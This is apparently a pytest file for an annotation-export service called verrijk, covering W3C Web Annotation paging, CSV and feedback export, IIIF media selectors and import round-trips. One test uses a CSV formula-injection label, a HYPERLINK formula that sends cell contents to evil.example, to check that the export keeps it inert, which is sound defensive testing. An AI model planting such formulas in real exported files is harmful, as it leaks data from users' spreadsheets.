"""Decided suggestions exported as W3C Web Annotations (paged collection), CSV and training feedback,
and imported back."""

from __future__ import annotations

import csv
import io
import json
import re

from seeding import seed

MOTIVATIONS = {"linking", "identifying", "tagging", "classifying", "describing"}


def decide_some(client, org):
    batch = client.get("/review/next?size=5&order=record", headers=org.headers()).json()["items"]
    client.post(
        "/review/decisions",
        headers=org.headers(),
        json={
            "decisions": [
                {"id": batch[0]["id"], "status": "accepted"},
                {"id": batch[1]["id"], "status": "rejected"},
                {
                    "id": batch[2]["id"],
                    "status": "edited",
                    "label": "Paramaribo (stad)",
                    "authority_uri": "https://sws.geonames.org/3383330/",
                },
                {"id": batch[3]["id"], "status": "accepted"},
            ]
        },
    )
    return batch


def check_annotation(a: dict) -> None:
    """The W3C Web Annotation model's required keys and types, and verrijk's documented extension."""
    assert a["@context"][0] == "http://www.w3.org/ns/anno.jsonld"
    assert a["id"].startswith("http://testserver/annotations/") and a["type"] == "Annotation"
    assert a["motivation"] in MOTIVATIONS
    assert a["body"]["type"] in ("SpecificResource", "TextualBody")
    assert a["body"].get("id", "").startswith("http") or a["body"].get("value")
    assert a["target"]["type"] == "SpecificResource" and "#" in a["target"]["source"]
    if "selector" in a["target"]:
        assert a["target"]["selector"]["type"] in ("TextPositionSelector", "FragmentSelector")
    assert a["generator"]["type"] == "Software" and a["generator"]["name"].startswith("verrijk ")
    assert a["created"] and 0 <= a["verrijk:score"] <= 1
    assert a["verrijk:status"] in ("accepted", "rejected", "edited", "auto", "suggested")
    if "creator" in a:
        assert a["creator"]["type"] == "Person" and a["creator"]["id"].startswith("http://testserver/users/")


def test_collection_pages_validate_and_cover_everything_once(client, session, org):
    seed(session, org)
    decide_some(client, org)
    collection = client.get("/annotations?size=3", headers=org.headers("client")).json()
    assert collection["type"] == "AnnotationCollection" and collection["total"] == 4
    assert collection["@context"] == "http://www.w3.org/ns/anno.jsonld"
    seen, url = [], collection["first"]
    while url:
        page = client.get(url.removeprefix("http://testserver") + "&size=3", headers=org.headers()).json()
        assert page["type"] == "AnnotationPage" and page["partOf"] == collection["id"]
        seen += page["items"]
        url = page.get("next")
    assert len(seen) == len({a["id"] for a in seen}) == 4
    beyond = client.get("/annotations?page=2&size=3", headers=org.headers())
    assert beyond.status_code == 404 and "the last is 1" in beyond.json()["detail"]
    for a in seen:
        check_annotation(a)
    edited = next(a for a in seen if a["verrijk:status"] == "edited")
    assert edited["body"]["label"] == "Paramaribo (stad)" and edited["creator"]
    assert {a["verrijk:status"] for a in seen} == {"accepted", "rejected", "edited"}


def test_csv_and_feedback(client, session, org):
    seed(session, org)
    decide_some(client, org)
    rows = list(csv.DictReader(io.StringIO(client.get("/annotations?format=csv", headers=org.headers()).text)))
    assert len(rows) == 4 and {r["status"] for r in rows} == {"accepted", "rejected", "edited"}
    assert all(r["source_id"].startswith("r") and r["field"] == "title" for r in rows)
    lines = [json.loads(x) for x in client.get("/annotations/feedback", headers=org.headers()).text.splitlines()]
    polarity = [(x["status"], x["polarity"], x["label"]) for x in lines]
    assert ("rejected", "negative", "Paramaribo") in polarity
    assert ("edited", "negative", "Paramaribo") in polarity and ("edited", "positive", "Paramaribo (stad)") in polarity
    assert sum(1 for p in polarity if p[1] == "positive") == 3 and len(lines) == 5
    assert lines[0]["text"].startswith("Gezicht op Paramaribo")


def test_csv_keeps_a_label_that_looks_like_a_formula_as_text(client, session, org):
    seed(session, org)
    formula = '=HYPERLINK("https://evil.example/?"&A1;"klik")'
    batch = client.get("/review/next?size=2&order=record", headers=org.headers()).json()["items"]
    decided = [
        {
            "id": batch[0]["id"],
            "status": "edited",
            "label": formula,
            "authority_uri": "https://sws.geonames.org/3383330/",
        },
        {"id": batch[1]["id"], "status": "edited", "label": "-", "authority_uri": "https://sws.geonames.org/3383330/"},
    ]
    assert client.post("/review/decisions", headers=org.headers(), json={"decisions": decided}).status_code == 200
    rows = list(csv.DictReader(io.StringIO(client.get("/annotations?format=csv", headers=org.headers()).text)))
    assert sorted(r["label"] for r in rows) == ["'-", "'" + formula]  # a spreadsheet shows it, does not run it
    assert {r["authority_uri"] for r in rows} == {"https://sws.geonames.org/3383330/"}  # other cells as they were


def test_round_trip_into_another_store(client, session, org, other_org):
    seed(session, org)
    seed(session, other_org)
    decide_some(client, org)
    page = client.get("/annotations?page=0&size=100", headers=org.headers()).json()
    imported = client.post("/annotations", json=page, headers=other_org.headers()).json()
    assert imported == {"created": 4, "already_present": 0, "problems": []}
    again = client.post("/annotations", json=page, headers=other_org.headers()).json()
    assert again["created"] == 0 and again["already_present"] == 4
    back = client.get("/annotations?page=0&size=100", headers=other_org.headers()).json()["items"]

    def essence(a):
        return (
            a["target"]["verrijk:sourceId"],
            a["target"]["source"].split("#")[1],
            a["body"].get("id"),
            a["body"].get("label"),
            a["verrijk:status"],
            a["verrijk:score"],
            a["verrijk:enricher"],
        )

    assert sorted(map(essence, back)) == sorted(map(essence, page["items"]))
    bad = client.post(
        "/annotations", json=[{"id": "x", "target": {"source": "http://elsewhere/thing"}}], headers=other_org.headers()
    ).json()
    assert bad["created"] == 0 and "not a verrijk record URI" in bad["problems"][0]


def test_media_suggestions_target_their_medium_with_a_fragment_selector(app, client, session, org, other_org, tmp_path):
    from media_records import SPAN, media_records

    from verrijk.ingest.service import ingest
    from verrijk.store.repo import RecordFilter, Repo, Scope
    from verrijk.store.tables import Suggestion

    app.state.settings.media_dirs = [tmp_path / "media"]
    media = media_records(session, org, tmp_path / "media")
    manifest = {
        "@context": "http://iiif.io/api/presentation/3/context.json",
        "id": "https://example.org/iiif/brief/manifest",
        "type": "Manifest",
        "label": {"nl": ["Brief van de burgemeester"]},
        "items": [
            {
                "id": "https://example.org/iiif/brief/canvas/p1",
                "type": "Canvas",
                "width": 2400,
                "height": 3600,
                "items": [
                    {
                        "id": "https://example.org/iiif/brief/page/p1",
                        "type": "AnnotationPage",
                        "items": [
                            {
                                "id": "https://example.org/iiif/brief/annotation/p1",
                                "type": "Annotation",
                                "motivation": "painting",
                                "body": {
                                    "id": "https://example.org/iiif/brief/full.jpg",
                                    "type": "Image",
                                    "width": 1200,
                                    "height": 1800,
                                },
                                "target": "https://example.org/iiif/brief/canvas/p1",
                            }
                        ],
                    }
                ],
            }
        ],
    }
    repo = Repo(session, Scope(org.id))
    ingest(session, repo, "brieven", "m.json", fmt="iiif", data=json.dumps(manifest).encode())
    letter = repo.records(RecordFilter(collection="brieven"), limit=1).items[0]
    session.add(
        Suggestion(
            organisation_id=org.id, record_id=letter.id, key="letter-line", field="media.0", region=[100, 200, 300, 40],
            kind="transcript", label="Aan de burgemeester", score=0.9, enricher="image.ocr", enricher_version="1",
        )
    )  # fmt: skip
    session.commit()
    waiting = client.get("/review/next?size=10&order=record", headers=org.headers()).json()["items"]
    client.post(
        "/review/decisions",
        headers=org.headers(),
        json={"decisions": [{"id": i["id"], "status": "accepted"} for i in waiting]},
    )
    page = client.get("/annotations?page=0&size=100", headers=org.headers()).json()["items"]
    assert len(page) == 4
    for a in page:
        check_annotation(a | {"target": a["target"] | {"source": a["target"]["scope"]}})
        assert a["target"]["selector"]["type"] == "FragmentSelector"
        assert a["target"]["selector"]["conformsTo"] == "http://www.w3.org/TR/media-frags/"
        assert a["target"]["scope"].startswith("http://testserver/records/") and a["target"]["scope"].endswith(
            "#media.0"
        )
    by_label = {a["body"]["value"]: a["target"] for a in page}
    x, y, w, h = media["box"]
    line = by_label["Gezicht op de Schelde te Antwerpen"]
    # a medium read from a server file is published as verrijk's served copy, never as the server's path
    served = line["scope"].replace("#media.0", "/media/0")
    assert line["source"] == {"id": served, "type": "Image"} and client.get(served, headers=org.headers()).is_success
    assert not any(str(tmp_path) in json.dumps(a) for a in page)
    assert line["selector"]["value"] == f"xywh={x},{y},{w},{h}"
    spoken = next(t for t in by_label.values() if t["source"]["type"] == "Sound")
    assert spoken["selector"]["value"] == f"t={SPAN[0]:g},{SPAN[1]:g}"
    assert re.fullmatch(r"http://testserver/records/\d+/media/\d+", spoken["source"]["id"])
    on_canvas = by_label["Aan de burgemeester"]  # the canvas is twice the image's size: the region doubles
    assert on_canvas["source"] == {
        "id": "https://example.org/iiif/brief/canvas/p1",
        "type": "Canvas",
        "partOf": [{"id": "https://example.org/iiif/brief/manifest", "type": "Manifest"}],
    }
    assert on_canvas["selector"]["value"] == "xywh=200,400,600,80"

    rows = list(csv.DictReader(io.StringIO(client.get("/annotations?format=csv", headers=org.headers()).text)))
    assert {r["field"] for r in rows} == {"media.0"} and f"xywh={x},{y},{w},{h}" in {r["selector"] for r in rows}

    # back into another organisation's store (same collections and source ids): regions and spans survive
    media_records(session, other_org, tmp_path / "media")
    ingest(
        session, Repo(session, Scope(other_org.id)), "brieven", "m.json", fmt="iiif", data=json.dumps(manifest).encode()
    )
    imported = client.post("/annotations", json=page, headers=other_org.headers()).json()
    assert imported == {"created": 4, "already_present": 0, "problems": []}
    back = client.get("/annotations?page=0&size=100", headers=other_org.headers()).json()["items"]
    assert sorted((a["body"]["value"], a["target"]["selector"]["value"]) for a in back) == sorted(
        (a["body"]["value"], a["target"]["selector"]["value"]) for a in page
    )
